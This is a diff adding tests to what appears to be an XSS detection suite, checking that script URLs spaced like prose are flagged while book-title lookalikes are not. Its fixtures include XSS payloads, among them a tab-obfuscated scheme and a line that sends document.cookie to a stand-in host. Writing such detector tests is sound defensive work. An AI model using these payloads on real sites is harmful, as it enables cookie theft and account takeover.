@@ -215,3 +215,31 @@ describe('xss: a markdown link to a script URL', () => {
     true,
   )
 })
+
+/**
+ * A script URL whose call the line-rate pass would take for prose (`alert (1)`: a blank before the
+ * parenthesis) is read by the XSS rules: its scheme is a keyword of the pass. A title that starts
+ * with the scheme's name is not code.
+ */
+describe('xss: a script URL the pass would take for prose', () => {
+  flagsAndLeaves(
+    [
+      ['javascript:alert (1)', 'xss-script-url'],
+      ['JavaScript:alert (document.domain)', 'xss-script-url'],
+      ['vbscript:msgbox (1)', 'xss-script-url'],
+      ['javas\tcript:alert (1)', 'xss-script-url'],
+      ["javascript: void fetch ('//e.example/'+document.cookie)", 'xss-script-url'],
+    ],
+    [
+      'JavaScript: Basics of JavaScript Language',
+      'JavaScript: Basics of JavaScript Language (see #12)',
+      'JavaScript: Basics of JavaScript Language & more',
+      'javascript: the good parts',
+      'the script: see below',
+    ],
+    true,
+  )
+  it('reads such a URL in a JSON frame too (the bytes and text pre-checks do not answer it)', () => {
+    expect(p1.first('{"type":"chat","text":"javascript:alert (1)"}')?.rule).toBe('xss-script-url')
+  })
+})
